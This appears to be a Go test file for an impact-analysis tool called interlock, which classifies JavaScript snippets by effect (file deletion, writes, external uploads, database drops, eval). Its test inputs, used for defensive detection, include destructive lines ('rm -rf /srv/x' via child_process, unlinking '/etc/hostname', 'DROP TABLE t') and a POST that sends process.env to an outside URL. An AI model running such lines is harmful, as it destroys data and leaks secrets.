package program_test

import (
	"testing"

	"interlock"
	"interlock/internal/impact/impacttest"
)

func TestJavaScript(t *testing.T) {
	script := func(text string) interlock.Action { return impacttest.Source(interlock.KindJavaScript, text) }
	impacttest.CheckReadings(t, []impacttest.Reading{
		{Name: "calm", Action: script("const x = [1,2].map(v => v / 2); console.log(x)"), Want: []string{"execute workspace reversible +inline"}},
		{Name: "names in strings, comments, patterns",
			Action: script("// fs.unlinkSync('/etc/passwd')\nconst a = \"fs.unlinkSync('/x')\"; const r = /fs.unlinkSync('x')/g;"), Want: []string{
				"execute workspace reversible +inline"}},
		{Name: "unlink", Action: script("const fs = require('fs'); fs.unlinkSync('/etc/hostname')"),
			Want: []string{"delete system irreversible /etc/hostname"}},
		{Name: "prefix and promises", Action: script("import { rm } from 'node:fs/promises';\nawait rm('build', { recursive: true })"), Want: []string{
			"delete workspace irreversible /home/dev/project/build +recursive"}},
		{Name: "destructured alias", Action: script("const { unlinkSync: gone } = require('fs'); gone('a')"),
			Want: []string{"delete workspace irreversible /home/dev/project/a"}},
		{Name: "write", Action: script("require('fs').writeFileSync('out.txt', 'x')"), Want: []string{"write workspace reversible /home/dev/project/out.txt"}},
		{Name: "fetch", Action: script("const r = await fetch('https://example.com/')"), Want: []string{"read external readonly https://example.com/"}},
		{Name: "post", Action: script("fetch('https://example.com/', { method: 'POST', body: x })"),
			Want: []string{"write external window https://example.com/ +upload"}},
		{Name: "statement of a database",
			Action: script("const { Client } = require('pg'); const c = new Client(); await c.query('DROP TABLE t')"), Want: []string{
				"delete workspace irreversible t +database"}},
		{Name: "query of something else", Action: script("$('p').query('DROP TABLE t')"), Want: []string{"execute workspace reversible +inline"}},
		{Name: "computed code", Action: script("eval(input)"), Want: []string{"execute workspace window +dynamic"}},
		{Name: "timer with a function", Action: script("setTimeout(() => done(), 10)"), Want: []string{"execute workspace reversible +inline"}},
	})
}

func TestJavaScriptRunsShell(t *testing.T) {
	for _, text := range []string{
		"require('child_process').execSync('rm -rf /srv/x')",
		"const { exec: run } = require('node:child_process'); run(`rm -rf /srv/x`)",
		"import { spawnSync } from 'child_process'; spawnSync('rm', ['-rf', '/srv/x'])",
	} {
		got := impacttest.Analyse(t, impacttest.Source(interlock.KindJavaScript, text))
		if !impacttest.AnyImpact(got, func(i interlock.Impact) bool {
			return i.Kind == interlock.ImpactDelete && i.Target == "/srv/x" && i.Has("recursive")
		}) {
			t.Errorf("%s: %+v", text, got)
		}
	}
}

func TestJavaScriptSendsEnvironment(t *testing.T) {
	got := impacttest.Analyse(t, impacttest.Source(interlock.KindJavaScript,
		"fetch('https://example.com/', {method:'POST', body: JSON.stringify(process.env)})"))
	if !impacttest.AnyImpact(got, func(i interlock.Impact) bool { return i.Has("secret-send") }) {
		t.Errorf("got %+v", got)
	}
}

// FuzzJavaScript: any program is analysed to what [holds] demands: without panic, within bounds, twice alike.
func FuzzJavaScript(f *testing.F) {
	know := impacttest.Knowledge(f)
	for _, seed := range programSeeds {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		impacttest.Holds(t, know, impacttest.Source(interlock.KindJavaScript, text))
	})
}
